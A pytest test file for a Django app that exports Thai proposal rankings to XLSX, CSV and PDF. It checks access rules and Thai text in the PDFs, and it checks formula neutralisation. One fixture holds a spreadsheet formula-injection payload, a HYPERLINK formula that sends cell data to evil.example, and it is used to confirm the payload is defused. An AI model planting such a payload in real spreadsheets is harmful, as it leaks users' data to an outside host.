"""The ranking spreadsheets, the selection report and the dossier PDFs: right rows in the
right language, spreadsheet cells that cannot run as formulas, Thai text exact in the PDFs."""
import csv
import datetime as dt
import io
import subprocess
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from apps.accounts.models import Role
from apps.core.dates import THAI_MONTHS
from apps.core.testing import PASSWORD
from apps.events.models import Event
from apps.progress.models import CityActivity
from apps.proposals.exports import neutral
from apps.proposals.models import Decision, EligibilityCheck, ProposalActivity, decide
from apps.proposals.testing import (
    make_call, make_evaluator, make_organisation, make_proposal, make_user, score_all,
)

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"คลิกที่นี่")'
TITLE = "ปรับปรุงระบบระบายน้ำชุมชนริมแม่น้ำกก"
TITLE_EN = "Drainage upgrade for the Kok riverside community"
ORG = "มูลนิธิพัฒนาชุมชนเชียงราย"


@pytest.fixture
def call(world):
    """A closed call (criteria 2×(1–5), 1×(0–10)) with three eligible proposals scored by two
    evaluators; the first has a formula-like title."""
    call = make_call(world.city, open=False, criteria=((2, 1, 5), (1, 0, 10)))
    org = make_organisation(world.city, ORG)
    other = make_organisation(world.city, "สมาคมผู้ใช้น้ำ")
    proponent = world.user("proponent")
    evil = make_proposal(call, proponent, other, title=EVIL)
    good = make_proposal(call, proponent, org, title=TITLE)
    good.title_en = TITLE_EN
    good.save()
    plain = make_proposal(call, make_user("p2", world.city), other, title="+SUM(1,2)")
    scores = {good.pk: [5, 9], evil.pk: [3, 4], plain.pk: [4, 6]}
    second = make_user("judge", world.city, Role.EXPERT, organisation=org)
    for user in (world.user("expert"), second):
        score_all(make_evaluator(call, user), scores)
    call.good, call.evil, call.plain = good, evil, plain
    return call


def shortlist(world, call, proposals):
    activity = CityActivity.objects.get(city=world.city, plan_activity__number=3)
    start = timezone.now() - dt.timedelta(hours=5)
    event = Event(city_activity=activity, title_th="ประชุมคัดเลือกโครงการนำร่อง",
                  title_en="Pilot selection meeting", starts_at=start,
                  ends_at=start + dt.timedelta(hours=2))
    event.create(None)
    return call.record_shortlist(world.user("coordinator"), event, proposals,
                                 note_th="ที่ประชุมเห็นชอบ")


def login(client, name="coordinator"):
    assert client.login(username=name, password=PASSWORD)
    return client


def text_of(pdf, layout=True):
    """The PDF's text; without `layout` each table cell's lines stay together."""
    done = subprocess.run(["pdftotext", *(["-layout"] if layout else []), "-", "-"], input=pdf,
                          capture_output=True, check=True)
    return done.stdout.decode()


def flat(text):
    return "".join(text.split())


def sheet_rows(response):
    book = load_workbook(io.BytesIO(response.content))
    return book, [[cell.value for cell in row] for row in book.worksheets[0].iter_rows()]


# -- formula neutralisation ----------------------------------------------------------------
@pytest.mark.parametrize("value, out", [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"),
    ("\t=x", "'\t=x"), ("\r=x", "'\r=x"), ("  =x", "'  =x"), ("น้ำท่วม", "น้ำท่วม"),
    ("a=b", "a=b"), ("", ""), (None, None), (3.5, 3.5), (-2, -2),
])
def test_text_that_could_run_as_a_formula_gets_an_apostrophe(value, out):
    assert neutral(value) == out


def test_xlsx_ranking_is_inert_and_in_thai_by_default(client, world, call):
    response = login(client).get(f"/calls/{call.pk}/ranking.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"] == (
        f'attachment; filename="ranking-call-{call.pk}-weighted_sum-th.xlsx"')
    book, rows = sheet_rows(response)
    header = rows[0]
    with translation.override("th"):  # the Thai catalogue, whatever it holds so far
        assert header[:5] == [gettext("Rank"), gettext("Title (Thai)"),
                              gettext("Title (English)"), gettext("Organisation"),
                              gettext("Total")]
    body = rows[1:]
    assert [r[1] for r in body] == [TITLE, "'+SUM(1,2)", "'" + EVIL]  # by total, best first
    assert [r[0] for r in body] == [1, 2, 3]
    assert body[0][2] == TITLE_EN and body[0][3] == ORG
    # The mean score on each criterion's own scale: 5 and 9 from both evaluators.
    assert body[0][5:7] == [5, 9]
    assert body[0][8] == 2  # evaluators
    # No cell anywhere is a formula, whatever its text starts with.
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", cell.value
    assert book.worksheets[0]["B4"].data_type == "s"


def test_csv_is_utf8_with_bom_and_english_on_request(client, world, call):
    response = login(client).get(f"/calls/{call.pk}/ranking.csv?lang=en&method=topsis")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert 'filename="ranking-call-%d-topsis-en.csv"' % call.pk in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:5] == ["Rank", "Title (Thai)", "Title (English)", "Organisation", "Total"]
    assert rows[0][5] == "Criterion 1 (mean, 1–5)"
    assert rows[0][-4:] == ["Spread", "Evaluators", "Shortlisted", "Decision"]
    titles = [r[1] for r in rows[1:]]
    assert titles[0] == TITLE and "'" + EVIL in titles and "'+SUM(1,2)" in titles
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert rows[1][-2:] == ["No", ""]


def test_after_the_shortlist_the_frozen_ranking_is_exported(client, world, call):
    shortlist(world, call, [call.good, call.plain])
    decide(call.good, world.user("funder"), Decision.Outcome.APPROVED, budget=Decimal("150000"),
           conditions_th="รายงานทุกไตรมาส")
    rows = list(csv.reader(io.StringIO(
        login(client).get(f"/calls/{call.pk}/ranking.csv?lang=en").content.decode("utf-8-sig"))))
    assert "Current rank" not in rows[0]  # nothing changed since the meeting
    assert rows[1][1] == TITLE and rows[1][-2:] == ["Yes", "Approved"]
    assert rows[3][-2:] == ["No", ""]

    # A submitted score corrected after the meeting changes the live ranking, not the record.
    from apps.proposals.models import Score

    for score in Score.objects.current().filter(proposal=call.evil):
        score.correct(world.user("coordinator"), score.criterion.scale_max, "", "พิมพ์ผิด")
    rows = list(csv.reader(io.StringIO(
        client.get(f"/calls/{call.pk}/ranking.csv?lang=en").content.decode("utf-8-sig"))))
    assert rows[0][-2:] == ["Current rank", "Current total"]
    evil = next(r for r in rows[1:] if r[1] == "'" + EVIL)
    assert evil[0] == "3" and evil[-2] == "1"  # recorded third, now first


def test_the_funder_reads_the_exports_only_once_the_shortlist_is_recorded(client, world, call):
    url = f"/calls/{call.pk}/ranking.xlsx"
    assert login(client, "funder").get(url).status_code == 403
    shortlist(world, call, [call.good])
    assert client.get(url).status_code == 200
    client.logout()
    assert login(client, "proponent").get(url).status_code == 403
    client.logout()
    assert client.get(url).status_code == 302
    assert login(client, "expert").get(url).status_code == 200  # submitted their scores


def test_the_ranking_export_takes_the_same_queries_for_more_proposals(client, world, call):
    login(client)
    url = f"/calls/{call.pk}/ranking.xlsx"
    client.get(url)
    with CaptureQueriesContext(connection) as few:
        client.get(url)
    other = make_organisation(world.city, "ชมรมอาสา")
    more = [make_proposal(call, world.user("proponent"), other, title=f"โครงการ {i}")
            for i in range(6)]
    from apps.proposals.models import Evaluator

    for evaluator in Evaluator.objects.filter(call=call):
        evaluator.submitted_at = None
        evaluator.declared_at = None
        evaluator.save()
        score_all(evaluator, {p.pk: [3, 5] for p in [call.good, call.evil, call.plain, *more]})
    with CaptureQueriesContext(connection) as many:
        assert client.get(url).status_code == 200
    assert len(many) == len(few)


# -- the PDFs ----------------------------------------------------------------------------
def test_the_dossier_prints_thai_exactly_with_buddhist_era_dates(client, world, call):
    good = call.good
    good.objectives_th = "ลดน้ำท่วมขังในชุมชนริมน้ำ"
    good.save()
    ProposalActivity.objects.create(proposal=good, name="ขุดลอกคูระบายน้ำ",
                                    starts=dt.date(2025, 3, 1), ends=dt.date(2025, 6, 30))
    line = good.budget_lines.get()
    line.cofunding, line.cofunder = Decimal("50000"), "เทศบาลนครเชียงราย"
    line.save()
    EligibilityCheck.objects.create(proposal=good, rule=call.rules.get(), eligible=True)
    response = login(client).get(f"/proposals/{good.pk}/dossier.pdf")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert f'filename="proposal-{good.pk}-th.pdf"' in response["Content-Disposition"]
    text = text_of(response.content)
    for expected in (TITLE, ORG, "น้ำท่วมขังในชุมชน", "ลดน้ำท่วมขังในชุมชนริมน้ำ",
                     "ขุดลอกคูระบายน้ำ", "เทศบาลนครเชียงราย", "ครัวเรือนที่ได้ประโยชน์",
                     "เป็นหน่วยงานในพื้นที่", "200,000.00", "50,000.00", "500,000.00",
                     f"1 {THAI_MONTHS[2]} 2568"):
        assert expected in text, expected
    english = text_of(client.get(f"/proposals/{good.pk}/dossier.pdf?lang=en").content)
    assert TITLE_EN in english and "1 March 2025" in english and "Budget" in english


def test_the_dossier_is_404_to_those_who_may_not_read_the_proposal(client, world, call):
    assert login(client, "outsider").get(f"/proposals/{call.good.pk}/dossier.pdf").status_code == 404
    client.logout()
    assert login(client, "proponent").get(f"/proposals/{call.good.pk}/dossier.pdf").status_code == 200


def test_the_selection_report_in_thai_and_english(client, world, call):
    call.ahp_consistency = 0.046
    call.save()
    shortlist(world, call, [call.good, call.plain])
    decide(call.good, world.user("funder"), Decision.Outcome.APPROVED, budget=Decimal("180000"),
           conditions_th="รายงานความก้าวหน้าทุกไตรมาส")
    decide(call.plain, world.user("funder"), Decision.Outcome.REJECTED,
           reason_th="งบประมาณไม่สอดคล้องกับกิจกรรม")
    response = login(client).get(f"/calls/{call.pk}/selection-report.pdf")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    text = text_of(response.content, layout=False)
    for expected in ("เปิดรับข้อเสนอโครงการนำร่อง", "เกณฑ์ 1", TITLE, "ประชุมคัดเลือกโครงการนำร่อง",
                     "รายงานความก้าวหน้าทุกไตรมาส", "งบประมาณไม่สอดคล้องกับกิจกรรม",
                     "180,000.00", "คุณ judge", "0.046", "ที่ประชุมเห็นชอบ"):
        # Table cells wrap long Thai lines: compare without the line breaks, every mark kept.
        assert expected.replace(" ", "") in flat(text), expected
    today = timezone.localdate()
    assert f"{today.day} {THAI_MONTHS[today.month - 1]} {today.year + 543}" in text
    english = text_of(client.get(f"/calls/{call.pk}/selection-report.pdf?lang=en").content)
    for expected in ("Selection report", "Call for pilot projects", "Criterion 1",
                     "Pilot selection meeting", "Approved", "Rejected", str(today.year)):
        assert expected in english, expected
    assert login(client, "proponent").get(
        f"/calls/{call.pk}/selection-report.pdf").status_code == 403
